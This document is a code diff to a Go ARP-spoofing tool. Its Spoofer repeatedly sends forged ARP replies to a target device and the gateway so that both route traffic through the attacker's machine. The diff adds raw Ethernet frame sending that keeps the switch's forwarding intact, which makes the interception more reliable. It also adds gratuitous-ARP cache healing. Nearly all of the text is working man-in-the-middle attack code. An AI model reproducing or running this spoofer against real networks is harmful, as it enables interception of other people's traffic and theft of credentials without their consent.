@@ -11,6 +11,8 @@ import (
 	"time"
 
 	"github.com/mdlayher/arp"
+	"github.com/mdlayher/ethernet"
+	"github.com/mdlayher/packet"
 )
 
 // Host is an address on the LAN and its hardware address.
@@ -25,6 +27,7 @@ func (h Host) String() string { return fmt.Sprintf("%s (%s)", h.IP, h.MAC) }
 // the gateway that the device is, so that both send their traffic through us.
 type Spoofer struct {
 	c        *arp.Client
+	raw      *sender
 	Iface    *net.Interface
 	Target   Host
 	Gateway  Host
@@ -72,8 +75,45 @@ func NewSpoofer(ifi *net.Interface, target, gateway netip.Addr) (*Spoofer, error
 		return nil, fmt.Errorf("gateway: %w", err)
 	}
 	c.SetDeadline(time.Time{})
+	if s.raw, err = newSender(ifi); err != nil {
+		c.Close()
+		return nil, err
+	}
 	return s, nil
 }
+
+// sender writes whole Ethernet frames: the frame's source is always this
+// machine's address, whatever the ARP packet inside claims. A frame with the
+// gateway's (or the device's) address as its source would teach the switch
+// that the gateway is on our port, and the device would stop receiving.
+type sender struct {
+	conn *packet.Conn
+	me   net.HardwareAddr
+}
+
+func newSender(ifi *net.Interface) (*sender, error) {
+	conn, err := packet.Listen(ifi, packet.Raw, int(ethernet.EtherTypeARP), nil)
+	if err != nil {
+		return nil, fmt.Errorf("raw socket on %s (run as root or with CAP_NET_RAW): %w", ifi.Name, err)
+	}
+	return &sender{conn: conn, me: ifi.HardwareAddr}, nil
+}
+
+func (s *sender) send(to net.HardwareAddr, p *arp.Packet) error {
+	pb, err := p.MarshalBinary()
+	if err != nil {
+		return err
+	}
+	f := &ethernet.Frame{Destination: to, Source: s.me, EtherType: ethernet.EtherTypeARP, Payload: pb}
+	fb, err := f.MarshalBinary()
+	if err != nil {
+		return err
+	}
+	_, err = s.conn.WriteTo(fb, &packet.Addr{HardwareAddr: to})
+	return err
+}
+
+func (s *sender) Close() error { return s.conn.Close() }
 
 // State is what must be healed if this spoofer is never stopped properly.
 func (s *Spoofer) State() SpoofState {
@@ -81,21 +121,21 @@ func (s *Spoofer) State() SpoofState {
 }
 
 // tell sends to whom an ARP reply saying that ip is at mac.
-func tell(c *arp.Client, whom Host, ip netip.Addr, mac net.HardwareAddr) error {
+func tell(s *sender, whom Host, ip netip.Addr, mac net.HardwareAddr) error {
 	p, err := arp.NewPacket(arp.OperationReply, mac, ip, whom.MAC, whom.IP)
 	if err != nil {
 		return err
 	}
-	return c.WriteTo(p, whom.MAC)
+	return s.send(whom.MAC, p)
 }
 
 // Run poisons both caches every Interval until ctx ends, then heals them.
 func (s *Spoofer) Run(ctx context.Context) error {
-	me := s.c.HardwareAddr()
+	me := s.raw.me
 	t := time.NewTicker(s.Interval)
 	defer t.Stop()
 	for {
-		if err := errors.Join(tell(s.c, s.Target, s.Gateway.IP, me), tell(s.c, s.Gateway, s.Target.IP, me)); err != nil {
+		if err := errors.Join(tell(s.raw, s.Target, s.Gateway.IP, me), tell(s.raw, s.Gateway, s.Target.IP, me)); err != nil {
 			return fmt.Errorf("send ARP: %w", err)
 		}
 		select {
@@ -115,17 +155,32 @@ var healSchedule = []time.Duration{0, 1100 * time.Millisecond, 2200 * time.Milli
 // Heal tells both the real hardware addresses, several times, and closes.
 func (s *Spoofer) Heal() error {
 	defer s.c.Close()
-	return heal(s.c, s.Target, s.Gateway)
+	defer s.raw.Close()
+	return heal(s.raw, s.Target, s.Gateway)
 }
 
-func heal(c *arp.Client, target, gateway Host) error {
+func heal(c *sender, target, gateway Host) error {
 	start := time.Now()
-	var err error
+	var errs []error
 	for _, at := range healSchedule {
 		time.Sleep(time.Until(start.Add(at)))
-		err = errors.Join(tell(c, target, gateway.IP, gateway.MAC), tell(c, gateway, target.IP, target.MAC))
+		errs = append(errs, tell(c, target, gateway.IP, gateway.MAC), tell(c, gateway, target.IP, target.MAC),
+			announce(c, target, gateway), announce(c, gateway, target))
 	}
-	return err
+	return errors.Join(errs...)
+}
+
+// announce sends whom a gratuitous ARP (sender and target address both
+// owner's) with owner's real hardware address. Linux takes a gratuitous ARP
+// even within the locktime of the entry's last change, when a plain reply
+// can be ignored: the entry changes state on its own timers, and each change
+// restarts the locktime.
+func announce(c *sender, whom, owner Host) error {
+	p, err := arp.NewPacket(arp.OperationReply, owner.MAC, owner.IP, net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}, owner.IP)
+	if err != nil {
+		return err
+	}
+	return c.send(whom.MAC, p)
 }
 
 // healState heals the caches a killed run left poisoned.
@@ -139,9 +194,9 @@ func healState(st SpoofState) error {
 	if err := errors.Join(err1, err2); err != nil {
 		return fmt.Errorf("heal ARP: %w", err)
 	}
-	c, err := arp.Dial(ifi)
+	c, err := newSender(ifi)
 	if err != nil {
-		return fmt.Errorf("heal ARP on %s: %w", st.Iface, err)
+		return fmt.Errorf("heal ARP: %w", err)
 	}
 	defer c.Close()
 	return heal(c, Host{st.Target, tm}, Host{st.Gateway, gm})
